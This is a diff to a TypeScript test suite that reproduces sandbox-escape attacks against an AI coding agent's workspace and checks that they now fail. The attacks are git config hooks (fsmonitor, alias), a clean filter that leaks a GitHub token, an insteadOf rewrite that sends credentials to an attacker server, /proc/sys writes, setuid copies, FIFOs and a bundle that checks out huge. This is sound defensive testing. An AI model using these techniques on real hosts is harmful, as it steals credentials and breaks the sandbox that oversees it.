@@ -7,8 +7,10 @@ import path from 'node:path';
 import { createGitHubCodeHost } from '../../src/codehost/github';
 import { DEFAULT_SANDBOX_LIMITS, type CommandSandbox, type SandboxLimits } from '../../src/sandbox/sandbox';
 import { createUnsandboxedRunner } from '../../src/sandbox/unsandboxed';
-import { runCommand } from '../../src/workspace/commands';
-import { branchTip, git, importBundle, prepareWorkspace } from '../../src/workspace/git';
+import { directorySize, runCommand } from '../../src/workspace/commands';
+import { branchTip, ChangeRejectedError, chownTree, diffInMirror, git, importBundle, prepareWorkspace } from '../../src/workspace/git';
+import { readFile } from '../../src/workspace/read-tools';
+import { editFile, writeFile } from '../../src/workspace/write-tools';
 import { commitAndBundle } from '../../src/workspace/sandboxed-git';
 import { makeBareRepository } from '../support/git-fixture';
 import { testSandbox } from '../support/harness';
@@ -38,9 +40,10 @@ describe('sandbox: the attacks of issue 11', () => {
 
   beforeAll(async () => {
     tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'attacks-'));
+    fs.chmodSync(tmp, 0o711); // the sandbox's unprivileged user must reach the workspaces
     const { remote, cleanup } = await makeBareRepository(SAMPLE_REPO);
     cleanupRemote = cleanup;
-    spec = { workspacesRoot: path.join(tmp, 'workspaces'), mirrorsRoot: path.join(tmp, 'mirrors'), organizationId: 'org-a', issueId: 'issue-a', remote, baseBranch: 'main' };
+    spec = { workspacesRoot: path.join(tmp, 'workspaces'), mirrorsRoot: path.join(tmp, 'mirrors'), organizationId: 'org-a', issueId: 'issue-a', remote, baseBranch: 'main', owner: sandbox.fileOwner };
     ours = (await prepareWorkspace(spec)).dir;
     theirs = (await prepareWorkspace({ ...spec, organizationId: 'org-b', issueId: 'issue-b' })).dir;
     fs.writeFileSync(path.join(theirs, 'customer-secrets.txt'), 'org-b private data');
@@ -157,7 +160,7 @@ describe('sandbox: the attacks of issue 11', () => {
 
   it('ignores a .gitconfig the agent wrote into the workspace (HOME is not the workspace)', async () => {
     const marker = 'gitconfig-fsmonitor-ran';
-    fs.writeFileSync(path.join(ours, '.gitconfig'), `[core]\n\tfsmonitor = "touch ${marker}; false"\n[alias]\n\tstatus = "!touch ${marker}"\n`);
+    fs.writeFileSync(path.join(ours, '.gitconfig'), `[safe]\n\tdirectory = *\n[core]\n\tfsmonitor = "touch ${marker}; false"\n[alias]\n\tstatus = "!touch ${marker}"\n`);
     try {
       // Before: commands ran with HOME set to the workspace, and git read the file as the user's config.
       await new Promise((resolve) => execFile('git', ['status', '--short'], { cwd: ours, env: { PATH: process.env.PATH, HOME: ours } }, resolve));
@@ -180,15 +183,17 @@ describe('sandbox: the attacks of issue 11', () => {
     fs.writeFileSync(path.join(ours, '.gitattributes'), '* filter=evil\n');
     fs.writeFileSync(path.join(ours, 'change.txt'), 'a change\n');
     // Before: the worker ran `git add` in the workspace itself, and the clean filter ran on the host.
-    await git(ours, ['add', '--all']);
+    // (The workspace now belongs to the sandbox user, and git itself would refuse to work in it as root: safe.directory says "as before".)
+    await git(ours, ['add', '--all'], { config: ['safe.directory=*'] });
     expect(fs.readFileSync(hostMarker, 'utf8')).toContain(SECRETS.GITHUB_TOKEN);
     fs.rmSync(hostMarker);
+    if (sandbox.fileOwner) await chownTree(ours, sandbox.fileOwner); // what root's git add wrote into .git
     fs.writeFileSync(path.join(ours, 'change.txt'), 'a second change\n');
     const prepared = await prepareWorkspace(spec);
     const change = await commitAndBundle(sandbox, ours, { message: 'fix: filtered', knownSha: await branchTip(prepared.mirror, prepared.branch), limits });
     try {
       expect(change.bundle).not.toBeNull();
-      await importBundle(prepared.mirror, change.bundle as string, prepared.branch);
+      await importBundle(prepared.mirror, change.bundle as string, prepared.branch, { maxCheckoutBytes: 1024 ** 3, maxEntries: 100_000 });
     } finally {
       await change.cleanup();
     }
@@ -212,7 +217,7 @@ describe('sandbox: the attacks of issue 11', () => {
       // The agent (or a test command) rewrites the remote of its clone.
       fs.appendFileSync(path.join(ours, '.git', 'config'), `[url "${attackerUrl}"]\n\tinsteadOf = ${spec.remote}\n[http]\n\tproxy = http://127.0.0.1:9\n`);
       // Before: the push ran in the workspace and the rule sent the token to the attacker.
-      await git(ours, ['push', '--quiet', '--force', '--', spec.remote, 'HEAD:refs/heads/stolen'], { config: [`http.extraHeader=Authorization: Basic ${basic}`], timeoutMs: 10_000 }).catch(() => undefined);
+      await git(ours, ['push', '--quiet', '--force', '--', spec.remote, 'HEAD:refs/heads/stolen'], { config: ['safe.directory=*', `http.extraHeader=Authorization: Basic ${basic}`], timeoutMs: 10_000 }).catch(() => undefined);
       expect(received.join('\n')).toContain(basic);
       received.length = 0;
       // After: the push runs in the worker's mirror, which the agent never touched.
@@ -223,6 +228,54 @@ describe('sandbox: the attacks of issue 11', () => {
     } finally {
       attacker.close();
     }
+  });
+
+  it('is never the host\'s root: /proc/sys is not writable and files it makes are not root\'s', async () => {
+    // As root in a namespace, a command could write kernel.core_pattern and have the host run its code as root.
+    const sysctl = await run(sandbox, ['sh', '-c', 'cat /proc/sys/kernel/printk_ratelimit > /proc/sys/kernel/printk_ratelimit && echo WROTE; id -u']);
+    expect(sysctl.stdout).not.toContain('WROTE');
+    expect(sysctl.stderr).toMatch(/Permission denied|Read-only/);
+    const uid = Number(sysctl.stdout.trim().split('\n').at(-1));
+    expect(uid).not.toBe(0);
+    // A setuid copy of a binary is the sandbox user's, not root's: it grants nothing.
+    await run(sandbox, ['sh', '-c', 'cp /usr/bin/id suid-id && chmod 4755 suid-id']);
+    const suid = fs.statSync(path.join(ours, 'suid-id'));
+    expect(suid.uid).toBe(uid);
+    expect(suid.uid).not.toBe(0);
+    fs.rmSync(path.join(ours, 'suid-id'));
+    // The workspace is its owner's alone.
+    expect(fs.statSync(ours).mode & 0o777).toBe(0o700);
+  });
+
+  it("refuses FIFOs and devices to the worker's file tools instead of blocking a worker thread", async () => {
+    await run(sandbox, ['mkfifo', 'pipe']);
+    const started = Date.now();
+    await expect(readFile(ours, { path: 'pipe' })).rejects.toThrow(/not a regular file/);
+    await expect(editFile(ours, { path: 'pipe', oldText: 'a', newText: 'b' })).rejects.toThrow(/not a regular file/);
+    await expect(writeFile(ours, { path: 'pipe', content: 'x' })).rejects.toThrow(/not a regular file/);
+    expect(Date.now() - started).toBeLessThan(2_000);
+    fs.rmSync(path.join(ours, 'pipe'));
+  });
+
+  it('refuses a small bundle that checks out huge, and caps the diff', async () => {
+    const prepared = await prepareWorkspace(spec);
+    await run(sandbox, ['sh', '-c', 'head -c 30000000 /dev/zero > zeros.bin']);
+    const change = await commitAndBundle(sandbox, ours, { message: 'fix: zeros', knownSha: await branchTip(prepared.mirror, prepared.branch), limits });
+    try {
+      expect(fs.statSync(change.bundle as string).size).toBeLessThan(1_000_000); // 30 MB of zeros compress to almost nothing
+      const before = await branchTip(prepared.mirror, prepared.branch);
+      await expect(importBundle(prepared.mirror, change.bundle as string, prepared.branch, { maxCheckoutBytes: 10 * 1024 ** 2, maxEntries: 100_000 })).rejects.toThrow(ChangeRejectedError);
+      expect(await branchTip(prepared.mirror, prepared.branch)).toBe(before);
+      await importBundle(prepared.mirror, change.bundle as string, prepared.branch, { maxCheckoutBytes: 1024 ** 3, maxEntries: 100_000 });
+      const diff = await diffInMirror(prepared.mirror, prepared.baseSha, prepared.branch, 2_000);
+      expect(diff).toMatch(/diff truncated|Binary files/);
+    } finally {
+      await change.cleanup();
+    }
+    // Disk is counted as allocated blocks, entries as inodes.
+    const usage = await directorySize(ours);
+    expect(usage.bytes).toBeGreaterThan(30_000_000);
+    expect(usage.entries).toBeGreaterThan(10);
   });
 
   it('reads no secret into the sandbox: the environment is the minimal one', async () => {
